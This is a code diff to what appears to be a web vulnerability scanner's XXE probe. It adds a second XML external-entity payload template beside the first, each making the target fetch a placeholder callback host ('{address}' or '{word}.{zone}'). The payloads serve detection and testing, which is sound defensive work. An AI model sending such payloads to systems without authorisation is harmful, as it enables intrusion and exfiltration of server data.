@@ -1,7 +1,7 @@
 import { noted } from '@portal/domain/monitoring/scan-words/evidence-notes.ts';
 import type { Exchange } from '../../guard/exchange.ts';
 import type { ActiveCheck } from '../active-check.ts';
-import type { CallTemplate } from '../call-template.ts';
+import { ALSO, type CallTemplate } from '../call-template.ts';
 import type { Ask, Probe } from '../probe.ts';
 import { SYSTEM_FILES } from './a10-path-traversal.ts';
 
@@ -48,7 +48,12 @@ export async function readsEntities(
 export const callingDocument = (document: string): CallTemplate =>
   withEntities(
     document,
-    '<!ENTITY % p SYSTEM "http://{address}/{word}"> %p; <!ENTITY a SYSTEM "http://{address}/{word}">',
+    [
+      '',
+      '<!ENTITY % p SYSTEM "http://{address}/{word}"> %p; <!ENTITY a SYSTEM "http://{address}/{word}">',
+      '<!ENTITY % q SYSTEM "http://{word}.{zone}/"> %q; <!ENTITY a SYSTEM "http://{word}.{zone}/">',
+      '',
+    ].join(ALSO),
     '&a;',
   );
 
